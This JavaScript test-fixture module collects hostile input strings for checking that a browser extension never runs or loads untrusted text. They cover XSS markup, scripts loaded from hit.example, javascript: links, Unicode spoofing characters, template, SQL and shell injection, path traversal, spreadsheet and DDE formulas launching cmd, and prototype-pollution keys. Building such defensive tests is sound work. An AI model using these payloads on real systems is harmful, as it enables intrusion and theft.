// Texts that a hostile row may hold: more than two hundred, of every kind that has broken a program before. Each would set `globalThis.hit` or ask
// hit.example if anything ran or loaded it.

const RUN = ["globalThis.hit=1", "alert(document.domain)"];

/** Markup that runs or loads something wherever it is taken for markup. */
const markup = [
	...RUN.flatMap(js => [
		`<script>${js}</script>`, `<ScRiPt >${js}</sCrIpT>`, `<img src=x onerror=${js}>`, `<img src=x onerror="${js}">`, `<svg onload=${js}>`, `<svg><script>${js}</script></svg>`,
		`<body onload=${js}>`, `<iframe srcdoc="<script>parent.${js}</script>">`, `<iframe src="javascript:${js}">`, `<details open ontoggle=${js}>x</details>`, `<video><source onerror=${js}>`,
		`<audio src onerror=${js}>`, `<input autofocus onfocus=${js}>`, `<select autofocus onfocus=${js}>`, `<textarea autofocus onfocus=${js}>`, `<marquee onstart=${js}>`, `<object data="javascript:${js}">`,
		`<embed src="javascript:${js}">`, `<form action="javascript:${js}"><button>x`, `<a href="javascript:${js}">x</a>`, `<math><mi xlink:href="javascript:${js}">x`, `<isindex action=javascript:${js}>`,
		`"><script>${js}</script>`, `'><script>${js}</script>`, `</td><script>${js}</script>`, `</script><script>${js}</script>`, `</title><script>${js}</script>`, `</textarea><script>${js}</script>`,
		`</style><script>${js}</script>`, `--><script>${js}</script>`, `]]><script>${js}</script>`, `<!--><img src=x onerror=${js}>-->`, `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
		`<template><script>${js}</script></template>`, `&lt;script&gt;${js}&lt;/script&gt;`, `&#60;script&#62;${js}&#60;/script&#62;`, `\\u003cscript\\u003e${js}`, `%3Cscript%3E${js}%3C/script%3E`,
	]),
	'<img src=https://hit.example/a.png>', '<link rel=stylesheet href=https://hit.example/a.css>', '<style>@import "https://hit.example/b.css"</style>', '<meta http-equiv=refresh content="0;url=https://hit.example/">',
	'<base href=https://hit.example/>', '<iframe src=https://hit.example/></iframe>', '<script src=https://hit.example/a.js></script>', '<x style="background:url(https://hit.example/c)">', '<b class=hit>x</b>',
	'<ashiato-mark>x</ashiato-mark>', '<ashiato-bar onclick=hit()>x</ashiato-bar>', '<plaintext>', '<xmp>', '<!DOCTYPE html>', '<?xml version="1.0"?>', '<![CDATA[x]]>', '<!--', '-->', '<', '>', '&', '&amp;', '"', "'", '`',
];

/** Signs that turn text around, hide in it, or end it. */
const signs = ['\u202Egpj.exe', '\u202Dabc', '\u2066abc\u2069', '\u2067abc', '\u2068abc', '\u200Babc', '\u200E\u200F', '\uFEFFabc', '\u00ADabc', '\u2028abc', '\u2029abc', '\u0085abc', '\u0001abc', '\u0007abc', '\u0008abc', '\u001B[31mred',
	'\u001B]0;title\u0007', '\u007Fabc', '\u009Babc', '\uFFFDabc', '\uFFFEabc', '\uD800abc', '\uDFFFabc', 'a\u0300\u0301\u0302\u0303\u0304\u0305', 'Z\u0351\u036B\u0343\u036A\u0342\u036B', '\u{1F1E8}\u{1F1F3}', '\u{1F468}\u200D\u{1F469}',
	'\u{E0041}\u{E0042}', '\u2800', '\u3164', '\u115F', 'ﷺ', '𝕏', 'ｊａｖａｓｃｒｉｐｔ：', 'аррӏе.com', 'ℋ', '\r\nSet-Cookie: hit=1', '\t\tabc', 'あ'.repeat(300), 'x'.repeat(3000), '中'.repeat(100)];

/** What templates, catalogues, shells, databases and patterns fill in. */
const templates = ['{count}', '{name}', '{0}', '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{{constructor.constructor("globalThis.hit=1")()}}', '$MESSAGE$', '$1', '$&', '$$', '__MSG_app_name__', '%s%s%n', '%d', '{%if 1%}',
	'[[hit]]', '@@hit', '$(hit)', '`hit`', '; hit', '| hit', '&& hit', "' OR 1=1 --", '"; DROP TABLE signIns; --', '(a+)+$', '.*', '^$', '\\', '\\n', '\\u0000', '\\"', '",{"x":"y', '}]}', ']]]]', '[[-1,"html"]]', 'null', 'undefined', 'NaN',
	'-0', '1e999', '0x41', 'true', '../../../../etc/passwd', '..\\..\\hit', 'file:///etc/passwd', 'C:\\hit'];

/** Addresses that must never become a link. */
const addresses = ['javascript:globalThis.hit=1', 'JaVaScRiPt:globalThis.hit=1', 'java\tscript:globalThis.hit=1', ' javascript:globalThis.hit=1', 'data:text/html,<script>globalThis.hit=1</script>', 'vbscript:hit', 'blob:https://hit.example/x',
	'https://hit.example/', '//hit.example/', 'http://hit.example/', 'https://lh.login.yahoo.co.jp@hit.example/', 'https://lh.login.yahoo.co.jp.hit.example/', 'ftp://hit.example', 'chrome-extension://abc/popup/popup.html', 'moz-extension://abc/x',
	'chrome://settings', 'about:config', 'view-source:https://hit.example', 'ms-settings:', 'tel:+81999', 'mailto:a@hit.example', 'https://[::1]/', 'https://127.0.0.1/', 'intent://hit#Intent;end'];

/** What spreadsheets run. */
const formulas = ['=1+1', '=HYPERLINK("https://hit.example","x")', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', ' =1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)', '=IMPORTXML("https://hit.example","//a")', '|calc', '%0A=1', '"=1+1', "'=1+1",
	'=WEBSERVICE("https://hit.example")', '=DDE("cmd";"/C calc";"x")', ';=1+1', ',=1+1', '\u200B=1+1', '\uFEFF=1+1'];

/** Keys that lead to a prototype. */
const keys = ['__proto__', 'constructor', 'prototype', '__proto__.hit', 'constructor.prototype.hit', '{"__proto__":{"hit":1}}', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'then', 'toJSON', 'length', 'kind'];

export const PAYLOADS = [...markup, ...signs, ...templates, ...addresses, ...formulas, ...keys];

/** A text as markup shows it. @param {string} text */
export const escaped = text => text.replace(/[&<>"]/g, c => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' })[c]);
